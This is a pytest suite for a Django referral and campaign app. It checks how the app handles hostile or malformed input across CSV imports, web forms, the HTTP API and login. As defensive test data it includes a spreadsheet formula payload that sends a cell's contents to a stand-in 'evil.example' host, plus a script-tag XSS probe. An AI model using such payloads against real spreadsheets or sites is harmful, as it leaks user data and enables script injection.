"""What arrives from outside is not always what was meant. Every door answers clearly, and nothing is half done."""

import re
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils.html import escape

from advocates.models import Contact, Purchase, User
from campaigns.models import ApiKey, Campaign, Company, Enrolment, OutboundMessage
from campaigns.services.api_keys import api_key_create, api_key_revoke
from config.lib import clock
from referrals.models import Referral, ReferralEvent, Visit
from tests.cast import ADA, PASSWORD
from tests.factories.campaigns import campaign_made
from tests.factories.referrals import enrolled

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"look")'
MEGABYTE = 1024 * 1024


@pytest.fixture
def campaign(company: Company) -> Campaign:
    return campaign_made()


@pytest.fixture
def link(campaign: Campaign) -> Enrolment:
    """Lena's."""
    return enrolled(campaign, now=clock.now())


# --- files ------------------------------------------------------------------------------------------------------------


@pytest.fixture
def file(tmp_path: Path) -> Callable[[str | bytes], Path]:
    def write(content: str | bytes) -> Path:
        path = tmp_path / "people.csv"
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return path

    return write


def refused(command: str, path: Path, *options: str) -> str:
    """The sentence with which a command refuses a file as a whole; nobody was written."""
    with pytest.raises(CommandError) as refusal:
        call_command(command, str(path), *options)
    assert not Contact.objects.exists()
    assert not Purchase.objects.exists()
    return str(refusal.value)


def test_a_file_in_an_encoding_that_nobody_named(file):
    # UTF-8 to all appearance, and only its last line says that it is none.
    damaged = (
        "email,name\nlena@mail.example,J\u00fcrgen Gr\u00f6\u00dfe\nomar@mail.example,Andr\u00e9\n".encode()
        + b"ben@mail.example,B\xc3n\n"
    )
    path = file(damaged)

    assert "encoding" in refused("contacts_import", path)


def test_a_file_in_another_encoding_than_was_said(file):
    path = file("email,name\nlena@mail.example,Jürgen\n".encode("cp1252"))

    assert "utf-8" in refused("contacts_import", path, "--encoding", "utf-8")


def test_people_without_a_header(file):
    path = file("lena@mail.example,Lena,10\nben@mail.example,Ben,9\n")

    assert "No column is known as e-mail" in refused("contacts_import", path)


def test_purchases_without_a_header(file):
    path = file(" 00001 19970101  1   11.77\r\n 00002 19970112  1   12.00\r\n")

    assert "No column is known as customer" in refused("purchases_import", path)


def test_a_header_of_ten_thousand_columns(file):
    header = ",".join(["email", *(f"column_{number}" for number in range(10_000))])

    assert "10001 columns" in refused("contacts_import", file(f"{header}\nlena@mail.example\n"))


def test_formulas_in_cells_stay_text(file, capsys):
    cell = FORMULA.replace('"', '""')
    path = file(f'email,name\nlena@mail.example,"{cell}"\nnobody,"{cell}"\n')

    call_command("contacts_import", str(path))

    assert Contact.objects.get().details.name == FORMULA
    assert "1 created, 0 updated, 0 unchanged, 1 refused" in capsys.readouterr().out
    given_back = path.with_name("people.csv.refused.csv").read_text("utf-8-sig")
    assert "'=HYPERLINK" in given_back, "in the list of refused rows a spreadsheet would reckon with it"


# --- forms and links --------------------------------------------------------------------------------------------------


def claim(client: Client, link: Enrolment, **typed: str) -> Any:
    """A friend follows the link, reads for a while and sends the form."""
    client.get(f"/r/{link.code}", follow=True)
    page = client.get(f"/c/{link.campaign.slug}/")
    shown = re.search(r'name="shown" value="([^"]+)"', page.content.decode())
    assert shown
    answers = {"name": "Ben Carter", "email": "ben@mail.example", "consent": "on", "shown": shown[1], **typed}
    return client.post(f"/c/{link.campaign.slug}/", answers)


@pytest.fixture(autouse=True)
def _quick_readers(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody waits three seconds before each form here."""
    monkeypatch.setattr("referrals.forms.ClaimForm._took_its_time", lambda _form, _token: True)


def test_a_script_in_a_form_is_a_name_like_another(client, link, ada: User):
    answer = claim(client, link, name=SCRIPT)
    assert answer.status_code == 302

    referral = Referral.objects.get()
    assert referral.friend.details.name == SCRIPT
    assert all(SCRIPT not in message.html for message in OutboundMessage.objects.all())
    console = Client()
    console.force_login(ada)
    page = console.get(f"/admin/referrals/referral/{referral.pk}/change/").content.decode()
    assert SCRIPT not in page
    assert escape(SCRIPT) in page


def test_ten_megabytes_in_a_form(client, link):
    client.raise_request_exception = False

    answer = claim(client, link, name="B" * 10 * MEGABYTE)

    assert answer.status_code in (400, 413)
    assert "too" in answer.content.decode().lower()
    assert not Referral.objects.exists()


def test_a_nul_in_a_form(client, link):
    answer = claim(client, link, name="Ben\0Carter")

    assert answer.status_code == 200
    assert "Null characters are not allowed" in answer.content.decode()
    assert not Referral.objects.exists()


def test_a_code_that_nobody_has(client, link):
    answer = client.get("/r/NOBODYHASTHIS")

    assert answer.status_code == 404
    assert "<h1" in answer.content.decode()
    assert not Visit.objects.exists()


def test_a_link_into_a_campaign_that_has_ended(client, link):
    unknown = client.get("/r/NOBODYHASTHIS").content
    Campaign.objects.update(status=Campaign.Status.ENDED)

    for path in (f"/r/{link.code}", f"/c/{link.campaign.slug}/"):
        answer = client.get(path)
        assert answer.status_code == 404
        assert without_secrets(answer.content) == without_secrets(unknown), "it tells that there was something here"
    assert client.post(f"/c/{link.campaign.slug}/", {"email": "ben@mail.example"}).status_code == 404
    assert not Visit.objects.exists()
    assert not Referral.objects.exists()


def without_secrets(page: bytes) -> bytes:
    """Tokens and the page's own address differ from one call to the next."""
    return re.sub(rb'(value|nonce|href)="[^"]*"', b"", page)


# --- the HTTP API -----------------------------------------------------------------------------------------------------


class Shop:
    """The shop's back end, with a key that may write."""

    def __init__(self, secret: str) -> None:
        self.secret = secret
        self.client = Client()

    def post(self, path: str, body: Any) -> Any:
        return self.client.post(
            f"/api/v1/{path}",
            body,
            content_type="application/json",
            headers={"Authorization": f"Bearer {self.secret}"},
        )


def new_key(now: datetime) -> tuple[ApiKey, str]:
    return api_key_create(name="Shop", source="shop", scope=ApiKey.Scope.WRITE, now=now)


@pytest.fixture
def shop(db: None) -> Shop:
    return Shop(new_key(clock.now())[1])


def sale(**facts: Any) -> dict[str, Any]:
    """A purchase of Ben's, over Lena's code."""
    friend = {"email": "ben@mail.example", "name": "Ben Carter"}
    return {
        "event_id": "order-1",
        "type": "purchase",
        "occurred_at": clock.now().isoformat(),
        "friend": friend,
        "amount": 4900,
        "currency": "USD",
        **facts,
    }


def problem(answer: Any, *, status: int, code: str) -> dict[str, Any]:
    """The problem document (RFC 9457), with that status and code and a sentence."""
    assert answer.headers["Content-Type"] == "application/problem+json"
    body: dict[str, Any] = answer.json()
    assert (answer.status_code, body["status"], body["code"]) == (status, status, code), body
    assert body["detail"]
    return body


def nothing_was_recorded() -> bool:
    kinds = (ReferralEvent, Referral, Purchase)
    return not any(kind.objects.exists() for kind in kinds) and Contact.objects.count() <= 1  # Lena


@pytest.mark.parametrize("secret", ["", "ick_nobodyhasthis", "Bearer", "é", "x" * 5000])
def test_a_wrong_key(link, secret):
    problem(Shop(secret).post("events", sale()), status=401, code="bad_api_key")
    assert nothing_was_recorded()


def test_no_key_at_all(client, link):
    problem(client.post("/api/v1/events", sale(), content_type="application/json"), status=401, code="bad_api_key")
    assert nothing_was_recorded()


def test_a_revoked_key(link, ada: User):
    key, secret = new_key(clock.now())
    api_key_revoke(key=key, actor=ada, now=clock.now())

    problem(Shop(secret).post("events", sale()), status=401, code="bad_api_key")
    assert nothing_was_recorded()


def test_an_event_id_with_another_body(shop, link):
    first = sale(referral_code=link.code)
    assert shop.post("events", first).status_code == 202

    for other in (
        {"amount": 4901},
        {"currency": "EUR"},
        {"type": "signup"},
        {"friend": {"email": "noor@mail.example"}},
    ):
        problem(shop.post("events", first | other), status=409, code="event_id_reused")

    assert ReferralEvent.objects.filter(type="purchase").count() == 1
    assert Referral.objects.count() == Purchase.objects.count() == 1
    assert not Contact.objects.filter(keys__value="noor@mail.example").exists()


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("amount", 42.0),
        ("amount", True),
        ("amount", "42"),
        ("amount", -1),
        ("amount", 10**13),
        ("event_id", "order\0one"),
        ("event_id", ""),
        ("event_id", "x" * 129),
        ("currency", "XXQ"),
        ("currency", "usd"),
        ("occurred_at", 1_700_000_000),
        ("occurred_at", "yesterday"),
        ("campaign", ["give-and-get"]),
        ("metadata", {"note": "a\0b"}),
        ("metadata", {"note": "x" * 10_000}),
        ("surprise", 1),
    ],
)
def test_a_value_that_is_none_of_its_kind(shop, link, field, value):
    answer = problem(shop.post("events", sale(**{field: value})), status=422, code="invalid")

    assert [entry["field"].partition(".")[0] for entry in answer["errors"]] == [field]
    assert nothing_was_recorded()


def test_a_nul_in_a_name(shop, link):
    friend = {"email": "ben@mail.example", "name": "Ben\0"}

    answer = problem(shop.post("events", sale(friend=friend)), status=422, code="invalid")

    assert [entry["field"] for entry in answer["errors"]] == ["friend.name"]
    assert nothing_was_recorded()


def test_an_amount_without_its_currency(shop, link):
    body = sale()
    del body["currency"]

    problem(shop.post("events", body), status=422, code="currency_missing")
    assert nothing_was_recorded()


@pytest.mark.parametrize("body", ["{", "[]", "null", '{"event_id": NaN}', b"\xff\xfe", ""])
def test_a_body_that_is_no_json_object(shop, link, body):
    answer = shop.post("events", body)

    assert answer.status_code in (400, 422)
    problem(answer, status=answer.status_code, code="bad_request" if answer.status_code == 400 else "invalid")
    assert nothing_was_recorded()


def test_a_body_of_ten_megabytes(shop, link):
    problem(shop.post("events", "x" * 10 * MEGABYTE), status=413, code="too_big")
    assert nothing_was_recorded()


def test_a_code_and_a_campaign_that_nobody_has(shop, link):
    friend = {"email": "ben@mail.example"}
    referral = {"referral_code": "NOBODYHASTHIS", "friend": friend}

    problem(shop.post("campaigns/give-and-take/referrals", referral), status=404, code="not_found")
    problem(shop.post(f"campaigns/{link.campaign.slug}/referrals", referral), status=404, code="unknown_code")
    problem(shop.post("events", sale(campaign="give-and-take")), status=422, code="unknown_campaign")
    assert nothing_was_recorded()


def test_a_friend_for_a_campaign_that_has_ended(shop, link):
    Campaign.objects.update(status=Campaign.Status.ENDED)
    body = {"referral_code": link.code, "friend": {"email": "ben@mail.example"}}

    problem(shop.post(f"campaigns/{link.campaign.slug}/referrals", body), status=409, code="campaign_not_open")
    assert nothing_was_recorded()


def test_signing_in_with_a_wrong_password_says_no_more_than_that(client, ada: User):
    wrong = client.post("/accounts/login/", {"login": ADA.email, "password": "not hers"}).content.decode()
    nobody = client.post("/accounts/login/", {"login": "nobody@fernway.example", "password": PASSWORD}).content.decode()

    said = "The email address and/or password you specified are not correct."
    assert said in wrong
    assert said in nobody
